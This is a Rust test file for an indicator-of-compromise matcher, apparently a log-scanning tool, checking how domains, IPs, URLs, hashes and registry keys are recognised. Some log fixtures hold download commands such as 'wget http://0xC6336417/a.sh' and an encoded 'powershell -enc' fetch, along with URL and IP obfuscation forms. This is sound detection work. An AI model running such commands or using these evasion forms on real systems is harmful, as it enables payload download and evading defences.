//! What counts as a sighting of which indicator, row by row.

use tegakari_match::{Hit, Matcher};
use tegakari_model::{Observable, ObservableKind as K, Relation};

fn value(kind: K, text: &str) -> Observable {
    Observable::new(kind, text).expect("a value of this kind")
}

fn hits(values: &[Observable], log: &str) -> Vec<Hit> {
    let (matcher, refused) = Matcher::build(values);
    assert_eq!(refused, []);
    let mut hits = Vec::new();
    matcher.scan(log.as_bytes(), &mut hits);
    for hit in &hits {
        assert!(
            hit.start < hit.end && hit.end <= log.len(),
            "{hit:?} in {log}"
        );
    }
    hits
}

/// The relations with which `text` is seen in `log`.
fn check(kind: K, text: &str, log: &str, want: &[Relation]) {
    let found = hits(&[value(kind, text)], log);
    let relations: Vec<Relation> = found.iter().map(|hit| hit.relation).collect();
    assert_eq!(relations, want, "{text} in {log}");
}

use Relation::{
    Decoded, Defanged, Embedded, Exact, Host, InNetwork, MailDomain, PathEnd, ReverseName,
    Subdomain,
};

#[test]
fn a_domain_is_seen_at_label_borders_only() {
    let see = |log: &str, want: &[Relation]| check(K::Domain, "evil.example", log, want);
    see("query: evil.example", &[Exact]);
    see("query: EVIL.Example.", &[Exact]);
    see("query=evil.example,type=A", &[Exact]);
    see("\"evil.example\"", &[Exact]);
    see("a.b.evil.example", &[Subdomain]);
    see("_sip._tcp.evil.example", &[Subdomain]);
    see("http://evil.example/x", &[Host]);
    see("{\"u\":\"http:\\/\\/evil.example\\/x\"}", &[Host]);
    see("CONNECT evil.example:443", &[Host]);
    see("http://me@evil.example/", &[Host]);
    see("from=<bob@evil.example>", &[MailDomain]);
    see("notevil.example", &[]);
    see("my-evil.example", &[]);
    see("evil.example.org", &[]);
    see("evil.examples", &[]);
    see("evil-example", &[]);
    see("evil.example-x", &[]);
    see("xevil.example evil.example2 evil.exampl", &[]);
    see("evil.example@other.example", &[]);
    see("サイトevil.exampleへ接続", &[Exact]);
    see("éevil.example", &[]);
}

#[test]
fn encoded_and_defanged_domains_are_seen() {
    let see = |log: &str, want: &[Relation]| check(K::Domain, "evil.example", log, want);
    see("url=https%3A%2F%2Fevil.example%2Flogin", &[Decoded]);
    see("u=http%3A%2F%2Fevil%2Eexample%2F", &[Decoded]);
    see("u=http%253A%252F%252Fevil%252Eexample", &[Decoded]);
    see("hxxps://evil[.]example/login", &[Defanged]);
    see("evil(dot)example", &[Defanged]);
    see("evil\u{3002}example", &[Exact]);
    see("{\"m\":\"line\\nevil.example\"}", &[Decoded]);
    see("{\"m\":\"\\u0022evil.example\\u0022\"}", &[Exact]);
    see("C:\\\\temp\\\\nevil.example", &[]);
    check(
        K::Domain,
        "bücher.example",
        "q=xn--bcher-kva.example",
        &[Exact],
    );
    check(
        K::Domain,
        "bücher.example",
        "q=XN--BCHER-KVA.example",
        &[Exact],
    );
    check(
        K::Domain,
        "bücher.example",
        "https://bücher.example/x",
        &[Host],
    );
    check(
        K::Domain,
        "bücher.example",
        "https://www.BÜCHER.example/x",
        &[Subdomain],
    );
    check(
        K::Domain,
        "bücher.example",
        "{\"u\":\"https://b\\u00fccher.example/x\"}",
        &[Host],
    );
    check(
        K::Domain,
        "bücher.example",
        "b%C3%BCcher.example",
        &[Decoded],
    );
    check(K::Domain, "cher.example", "https://bücher.example/", &[]);
}

#[test]
fn an_address_is_a_number_not_digits() {
    let see = |log: &str, want: &[Relation]| check(K::Ipv4, "198.51.100.23", log, want);
    see("DST=198.51.100.23 LEN", &[Exact]);
    see("198.51.100.23,198.51.100.24", &[Exact]);
    see("http://198.51.100.23:8080/x", &[Host]);
    see("198.51.100.23:53", &[Exact]);
    see("  198.51.100.23:443 ->  10.0.0.1:51234", &[Exact]);
    see("CONNECT http://198.51.100.23:8080", &[Host]);
    see("::ffff:198.51.100.23", &[Exact]);
    see("::ffff:c633:6417", &[Exact]);
    see("23.100.51.198.in-addr.arpa", &[ReverseName]);
    see("198.51.100.20-198.51.100.23", &[Exact]);
    see("at 198.51.100.23.", &[Exact]);
    see("x%20198.51.100.23", &[Decoded]);
    see("198.51.100.230", &[]);
    see("1198.51.100.23", &[]);
    see("1.3.6.1.4.198.51.100.23.7", &[]);
    see("198.51.100.23.7", &[]);
    see("v198.51.100.23", &[]);
    check(
        K::Cidr,
        "198.51.100.16/28",
        "198.51.100.23 198.51.100.32",
        &[InNetwork],
    );
    check(K::Cidr, "198.48.0.0/12", "198.51.100.23", &[InNetwork]);
    check(
        K::Cidr,
        "198.51.100.16/28",
        "23.100.51.198.in-addr.arpa",
        &[ReverseName],
    );
}

#[test]
fn an_ipv6_address_has_many_forms() {
    let see = |log: &str, want: &[Relation]| check(K::Ipv6, "2001:db8::1", log, want);
    see("from 2001:db8::1 to", &[Exact]);
    see("2001:0DB8:0000:0000:0000:0000:0000:0001", &[Exact]);
    see("2001:db8:0:0:0:0:0:1", &[Exact]);
    see("http://[2001:DB8::1]:8443/up", &[Host]);
    see("\"2001:db8::1\"", &[Exact]);
    see("2001:db8::11", &[]);
    see("2001:db8::1:1", &[]);
    check(K::Cidr, "2001:db8::/32", "2001:db8:7::9", &[InNetwork]);
    check(
        K::Url,
        "http://[2001:db8::1]/up",
        "GET http://[2001:db8::1]/up",
        &[Exact],
    );
}

#[test]
fn a_hash_is_a_whole_run_of_digits() {
    let md5 = "0123456789abcdef0123456789abcdef";
    let see = |log: &str, want: &[Relation]| check(K::Md5, md5, log, want);
    see(&format!("MD5={},SHA256=", md5.to_uppercase()), &[Exact]);
    see(&format!("\"md5\":\"{md5}\""), &[Exact]);
    see(&format!("/srv/{md5}.bin"), &[Exact]);
    see(&format!("a\\n{md5}"), &[Exact]);
    see(&format!("h%3D{md5}"), &[Exact]);
    see(&format!("{md5}{md5}"), &[]);
    see(&format!("0{md5}"), &[]);
    see(&format!("g{md5}"), &[]);
    see(&format!("{md5}z"), &[]);
    see(&format!("sha1={md5}01234567"), &[]);
    let sha512 = md5.repeat(4);
    check(
        K::Sha512,
        &sha512,
        &format!(" {} ", sha512.to_uppercase()),
        &[Exact],
    );
    check(K::Imphash, md5, &format!("IMPHASH={md5}"), &[Exact]);
}

#[test]
fn a_url_is_seen_whole_and_never_by_its_host_alone() {
    let see =
        |log: &str, want: &[Relation]| check(K::Url, "http://evil.example/a/b.php", log, want);
    see("GET http://evil.example/a/b.php HTTP/1.1", &[Exact]);
    see("HTTP://EVIL.example:80/a/./c/../b.php#x", &[Exact]);
    see("http://evil.example/%61/b.php", &[Exact]);
    see("\"http:\\/\\/evil.example\\/a\\/b.php\"", &[Exact]);
    see("u=http%3A%2F%2Fevil.example%2Fa%2Fb.php", &[Decoded]);
    see("hxxp://evil[.]example/a/b.php", &[Defanged]);
    see("see http://evil.example/a/b.php.", &[Exact]);
    see("evil.example/a/b.php", &[Embedded]);
    see("http://evil.example/", &[]);
    see("evil.example", &[]);
    see("http://evil.example/a/b.phpx", &[]);
    see("http://evil.example/a/b.php/c", &[]);
    see("http://x.evil.example/a/b.php", &[]);
    see("https://evil.example/a/b.php", &[]);
    check(
        K::Url,
        "http://evil.example",
        "http://evil.example/ x",
        &[Exact],
    );
    check(
        K::Url,
        "http://198.51.100.23:8080/x",
        "http://198.51.100.23:8080/x",
        &[Exact],
    );
    check(
        K::Url,
        "http://wpad/evil.dat",
        "GET http://wpad/evil.dat",
        &[Embedded],
    );
}

#[test]
fn a_mail_address_is_seen_whole() {
    let see = |log: &str, want: &[Relation]| check(K::Email, "a.b@evil.example", log, want);
    see("from=<A.B@Evil.Example>", &[Exact]);
    see("mailto:a.b@evil.example?x", &[Exact]);
    see("rcpt=a.b%40evil.example", &[Decoded]);
    see("x.a.b@evil.example", &[]);
    see("xa.b@evil.example", &[]);
    see("a.b@evil.example.br", &[]);
    see("a.b@mail.evil.example", &[]);
    see("b@evil.example", &[]);
}

#[test]
fn names_and_paths_of_files_are_seen_whole() {
    let see = |log: &str, want: &[Relation]| check(K::FileName, "evil64.exe", log, want);
    see("C:\\Users\\Public\\EVIL64.EXE", &[PathEnd]);
    see("{\"i\":\"C:\\\\Users\\\\evil64.exe\"}", &[PathEnd]);
    see("GET /dl/evil64.exe?x=1", &[PathEnd]);
    see("name=evil64.exe", &[Exact]);
    see("xevil64.exe", &[]);
    see("evil64.exe.config", &[]);
    see("not-evil64.exe", &[]);
    check(K::FileName, "報告書.exe", "C:\\x\\報告書.exe", &[PathEnd]);
    check(K::FileName, "報告書.exe", "C:\\x\\新報告書.exe", &[]);
    check(
        K::FileName,
        "invoice (1).exe",
        "C:\\x\\invoice (1).exe",
        &[PathEnd],
    );
    check(
        K::FilePath,
        "C:\\Users\\Public\\evil.exe",
        "\"C:\\\\users\\\\public\\\\evil.exe\"",
        &[Exact],
    );
    check(
        K::FilePath,
        "C:\\Users\\Public\\evil.exe",
        "D:\\Users\\Public\\evil.exe",
        &[],
    );
}

#[test]
fn free_text_is_seen_at_word_borders() {
    let agent = "Mozilla/4.0 (compatible; Wobaku 3.1; Win32)";
    check(
        K::UserAgent,
        agent,
        "x\tMozilla/4.0 (compatible; Wobaku 3.1; Win32)\t-",
        &[Exact],
    );
    check(
        K::UserAgent,
        agent,
        "Mozilla/4.0+(compatible;+Wobaku+3.1;+Win32)",
        &[Exact],
    );
    check(
        K::UserAgent,
        agent,
        "Mozilla/4.0 (compatible; Wobaku 3.1; Win64)",
        &[],
    );
    let mutex = "Global\\{8F6F0AC4-B9A1-45fd-A8CF-72F04E6BDE8F}";
    check(
        K::Mutex,
        mutex,
        "\"Global\\\\{8f6f0ac4-b9a1-45fd-a8cf-72f04e6bde8f}\"",
        &[Exact],
    );
    check(
        K::ServiceName,
        "EvilSvc",
        "ServiceName: EvilSvc ",
        &[Embedded],
    );
    check(K::ServiceName, "EvilSvc", "EvilSvcHost", &[]);
    check(K::ServiceName, "EvilSvc", "name=%20EvilSvc", &[Embedded]);
    check(K::ServiceName, "EvilSvc", "a\\tEvilSvc b", &[Embedded]);
    check(K::ServiceName, "EvilSvc", "..EvilSvc. b", &[Embedded]);
    check(K::ServiceName, "EvilSvc", "C:\\\\tEvilSvc", &[]);
    check(K::Mutex, "ab cde", "x ab cde y", &[Embedded]);
    check(
        K::CommandLine,
        "cmd /c \"x & y\"",
        "<Data>cmd /c &quot;x &amp; y&quot;</Data>",
        &[Exact],
    );
    check(
        K::Mac,
        "3c:97:0e:8e:3d:98",
        "MAC=3C:97:0E:8E:3D:98 3c-97-0e-8e-3d-98 3c97.0e8e.3d98",
        &[Exact, Embedded, Embedded],
    );
    check(
        K::Mac,
        "3c:97:0e:8e:3d:98",
        "MAC=00:16:3e:aa:7f:01:3c:97:0e:8e:3d:98:08:00",
        &[Exact],
    );
    check(
        K::DetectionName,
        "Win.Trojan.Miner-9835871-0",
        "x: Win.Trojan.Miner-9835871-0 FOUND",
        &[Embedded],
    );
}

#[test]
fn equal_values_are_one_entry_and_kinds_are_kept_apart() {
    let md5 = "0123456789abcdef0123456789abcdef";
    let values = [
        value(K::Domain, "evil.example"),
        value(K::Md5, md5),
        value(K::Domain, "EVIL.example."),
        value(K::Imphash, md5),
        value(K::Domain, "co.jp"),
    ];
    let (matcher, refused) = Matcher::build(&values);
    assert_eq!(matcher.duplicates(), [(2, 0)]);
    assert_eq!(refused.iter().map(|r| r.index).collect::<Vec<_>>(), [4]);
    let mut hits = Vec::new();
    matcher.scan(format!("evil.example {md5} a.co.jp").as_bytes(), &mut hits);
    assert_eq!(hits.iter().map(|h| h.entry).collect::<Vec<_>>(), [0, 1, 3]);
}

#[test]
fn a_line_of_many_megabytes_is_searched_whole() {
    let values = [value(K::Domain, "evil.example"), value(K::Mutex, "EvilMtx")];
    let (matcher, _) = Matcher::build(&values);
    for filler in ["x", "word, ", "a.b.", "\u{3042}"] {
        let mut line = filler.repeat((3 << 20) / filler.len());
        line.push_str(" evil.example EvilMtx ");
        line.push_str(&filler.repeat((3 << 20) / filler.len()));
        let mut hits = Vec::new();
        matcher.scan(line.as_bytes(), &mut hits);
        assert_eq!(hits.len(), 2, "{filler}");
    }
}

#[test]
fn a_host_without_listed_urls_need_not_be_joined() {
    let listed = [
        value(K::Url, "http://evil.example/gate.php"),
        value(K::Url, "https://198.51.100.7:8443/a"),
        value(K::Domain, "other.example"),
    ];
    let (matcher, _) = Matcher::build(&listed);
    for (host, want) in [
        ("evil.example", true),
        ("EVIL.Example:8080", true),
        ("evil.example.", true),
        ("-evil.example", true),
        ("me@evil.example", true),
        ("[2001:db8::1]", true),
        ("198.51.100.7", true),
        ("198.51.100.7:8443", true),
        ("198.51.100.7-198.51.100.9", true),
        ("www.evil.example", false),
        ("benign.example:443", false),
        ("198.51.100.8", false),
        ("intranet", false),
    ] {
        assert_eq!(matcher.may_list_urls_of(host.as_bytes()), want, "{host}");
    }
    let (matcher, _) = Matcher::build(&[value(K::Url, "http://intranet/gate.php")]);
    assert!(matcher.may_list_urls_of(b"intranet"));
}

#[test]
fn text_in_base64_and_between_control_sequences_is_seen() {
    let see = |log: &str, want: &[Relation]| check(K::Domain, "evil.example", log, want);
    see(
        "data=Y29uZmlnPWh0dHBzOi8vZXZpbC5leGFtcGxlL2dhdGUucGhwO3NsZWVwPTYw end",
        &[Decoded],
    );
    see(
        "/a/b?x=Y29uZmlnPWh0dHBzOi8vZXZpbC5leGFtcGxlL2dhdGU",
        &[Decoded],
    );
    // Of `iwr https://evil.example/a` in UTF-16.
    see(
        "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhAA==",
        &[Decoded],
    );
    see(
        "data=Y29uZmlnPWh0dHBzOi8vZ29vZC5leGFtcGxlL2dhdGUucGhwO3NsZWVwPTYw end",
        &[],
    );
    see("\x1b[31mevil.example\x1b[0m", &[Exact]);
    see("\x1b[1;31mevil.example\x1b[0m", &[Exact]);
    see("[31mevil.example", &[]);
    see("a;31mevil.example", &[]);
}

#[test]
fn an_address_with_its_port_behind_a_dot_is_seen_in_packet_dumps_only() {
    let see = |log: &str, want: &[Relation]| check(K::Ipv4, "203.0.113.9", log, want);
    see("IP 10.0.0.1.5555 > 203.0.113.9.443: Flags [S]", &[Exact]);
    see("IP 203.0.113.9.443 > 10.0.0.1.5555: Flags [S]", &[Exact]);
    see("version 203.0.113.9.443: new", &[]);
    see("oid 1.203.0.113.9: x", &[]);
}

#[test]
fn addresses_are_seen_as_browsers_read_the_hosts_of_urls() {
    let see = |log: &str, want: &[Relation]| check(K::Ipv4, "198.51.100.23", log, want);
    see("GET http://0xC6336417/x", &[Decoded]);
    see("GET http://3325256727/", &[Decoded]);
    see("u=http://3325256727", &[Decoded]);
    see("http://3325256727:8080/", &[Decoded]);
    see("{\"url\":\"http:\\/\\/3325256727\\/a\"}", &[Decoded]);
    see("{\"url\": \"https://0306.063.0144.027/a\"}", &[Decoded]);
    see("http://0xc6.0x33.0x64.0x17/", &[Decoded]);
    see("http://198.51.25623/", &[Decoded]);
    see("http://198.0051.100.023/ ", &[]);
    see("http://198.0063.100.027/ ", &[Decoded]);
    see("hxxp://0xC6336417/", &[Decoded]);
    see("http://me@0306.063.0144.027/", &[Decoded]);
    see("u=http%3A%2F%2F3325256727%2F", &[Decoded]);
    see("http://user@3325256727/", &[Decoded]);
    see("GET http://google.com:pw@0xC6336417:8080/x", &[Decoded]);
    see(
        "{\"u\":\"http:\\/\\/google.com@3325256727\\/a\"}",
        &[Decoded],
    );
    see("ログ。x http://google.com@3325256727/", &[Decoded]);
    see("a@3325256727 mail to=<x@3325256727>", &[]);
    // Numbers that are no hosts of URLs, and hosts that are no numbers.
    see(
        "id=3325256727 0xC6336417 0306.063.0144.027 198.51.25623",
        &[],
    );
    see("/files/0306.063.0144.027/x /3325256727/", &[]);
    see("urn://3325256727/ c://3325256727 //3325256727/", &[]);
    see("http://3325256727.example/", &[]);
    see("http://3325256727@www.example/", &[]);
    see("http://33252567271/ http://0xC63364171/", &[]);
    see(
        "http://x3325256727/ http://3325256727x/ http://3325256727-a/",
        &[],
    );
    see("{\"n\": \"3325256727\", \"t\":\"3325256727\"}", &[]);
    check(
        K::Cidr,
        "198.51.100.0/24",
        "http://3325256727/",
        &[InNetwork],
    );
    let url = "http://198.51.100.23/a.sh";
    check(K::Url, url, "wget http://0xC6336417/a.sh", &[Embedded]);
    check(
        K::Url,
        url,
        "wget http://0306.063.0144.027/a.sh",
        &[Embedded],
    );
    check(K::Url, url, "wget http://3325256727/a.shx", &[]);
    check(
        K::Url,
        "http://0xC6336417/a.sh",
        "GET http://198.51.100.23/a.sh",
        &[Exact],
    );
}

#[test]
fn escaped_dots_of_expressions_are_dots() {
    let see = |log: &str, want: &[Relation]| check(K::Domain, "evil.example", log, want);
    see("host =~ /evil\\.example/", &[Decoded]);
    see("^https?:\\/\\/www\\.evil\\.example\\/", &[Decoded]);
    see("(^|\\.)evil\\.example$", &[Decoded]);
    see("{\"q\":\"evil\\\\.example\"}", &[Decoded]);
    see("\\bevil\\.example\\b", &[]);
    see("evil\\.example\\b", &[Decoded]);
    see("notevil\\.example evil\\.examples", &[]);
    see("my-evil\\.example", &[]);
    see("C:\\evil\\.example", &[]);
    see("C:evil\\.example", &[]);
    see("a\\evil\\.example", &[]);
    see("evil\\.example\\config", &[]);
    see("evil\\\\\\.example", &[]);
    see("evil\\.example.org", &[]);
    see("evil\\.example\\.org", &[]);
    check(K::FileName, "evil.exe", "C:\\evil\\.exe", &[]);
}

#[test]
fn a_registry_key_is_the_same_in_the_set_of_controls_in_use() {
    let key = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Ev";
    let see = |log: &str, want: &[Relation]| check(K::RegistryKey, key, log, want);
    see("HKLM\\System\\CurrentControlSet\\Services\\Ev", &[Exact]);
    see(
        "HKLM\\System\\ControlSet001\\Services\\Ev\\ImagePath",
        &[Embedded],
    );
    see(
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet002\\Services\\Ev",
        &[Exact],
    );
    see("HKLM\\System\\ControlSet001\\Services\\Evil", &[]);
    see("HKLM\\System\\ControlSet001\\Ev", &[]);
    let numbered = "HKLM\\SYSTEM\\ControlSet001\\Services\\Ev";
    check(
        K::RegistryKey,
        numbered,
        "HKLM\\System\\CurrentControlSet\\Services\\Ev",
        &[Exact],
    );
    check(
        K::RegistryKey,
        numbered,
        "HKLM\\System\\ControlSet002\\Services\\Ev",
        &[],
    );
}

#[test]
fn registry_keys_have_a_view_for_programs_of_each_word_size() {
    let key = "HKLM\\Software\\EvilRat";
    let see = |log: &str, want: &[Relation]| check(K::RegistryKey, key, log, want);
    see("HKLM\\SOFTWARE\\WOW6432Node\\EvilRat", &[Exact]);
    see("HKLM\\SOFTWARE\\WOW6432Node\\EvilRat\\x", &[Embedded]);
    see(
        "\\REGISTRY\\MACHINE\\SOFTWARE\\Wow6432Node\\EvilRat",
        &[Exact],
    );
    see("HKLM\\SOFTWARE\\EvilRat", &[Exact]);
    see("HKLM\\SOFTWARE\\WOW6432Node\\EvilRat2", &[]);
    see("HKLM\\SOFTWARE\\WOW6432Node\\x\\EvilRat", &[]);
    see("HKCU\\SOFTWARE\\WOW6432Node\\EvilRat", &[]);
    see("HKLM\\SYSTEM\\WOW6432Node\\EvilRat", &[]);
    let key = "HKCU\\Software\\WOW6432Node\\EvilRat";
    check(K::RegistryKey, key, "HKCU\\Software\\EvilRat", &[Exact]);
    check(
        K::RegistryKey,
        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\EvilRat",
        "HKLM\\SYSTEM\\WOW6432Node\\CurrentControlSet\\Services\\EvilRat",
        &[],
    );
    let run = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    check(
        K::RegistryKey,
        run,
        "HKLM\\Software\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        &[],
    );
}

#[test]
fn names_of_windows_that_stand_for_ipv6_addresses() {
    let see = |log: &str, want: &[Relation]| check(K::Ipv6, "2001:db8::1", log, want);
    see("\\\\2001-db8--1.ipv6-literal.net\\share", &[Decoded]);
    see("\\\\\\\\2001-DB8--1.IPv6-Literal.NET\\\\share", &[Decoded]);
    see("host 2001-0db8-0-0-0-0-0-1.ipv6-literal.net.", &[Decoded]);
    see("2001-db8--1s4.ipv6-literal.net", &[Decoded]);
    see("2001-db8--1.ipv6-literal.net.example", &[]);
    see("www.2001-db8--1.ipv6-literal.net", &[]);
    see("2001-db8--1.my-ipv6-literal.net", &[]);
    see("2001-db8--11.ipv6-literal.net 2001-db8--1.net", &[]);
    check(
        K::Cidr,
        "2001:db8::/32",
        "2001-db8--77.ipv6-literal.net",
        &[InNetwork],
    );
}

#[test]
fn international_names_are_seen_in_any_column() {
    let see = |log: &str, want: &[Relation]| check(K::Domain, "日本25.jp", log, want);
    let ascii = value(K::Domain, "日本25.jp").value().to_owned();
    assert!(ascii.starts_with("xn--"), "{ascii}");
    see(&format!("a,{ascii},b"), &[Exact]);
    for (log, want) in [
        ("日本25.jp", Exact),
        ("a,日本25.jp,b", Exact),
        ("a\t日本25.jp\tA", Exact),
        ("\"日本25.jp\"", Exact),
        ("{\"q\":\"日本25.jp\"}", Exact),
        ("{\"q\":\"\\u65e5\\u672c25.jp\"}", Exact),
        ("query: www.日本25.jp IN A", Subdomain),
        ("日本25.jp.", Exact),
        ("日本２５．ＪＰ", Exact),
        ("http://日本25.jp/x", Host),
        ("http://日本25[.]jp/x", Defanged),
        ("http://日%E6%9C%AC25.jp/x", Decoded),
        ("日本25。jp", Exact),
    ] {
        see(log, &[want]);
    }
    see("日本225.jp 日本25.jpn 新日本25.jp 日本25.jp.example", &[]);
}
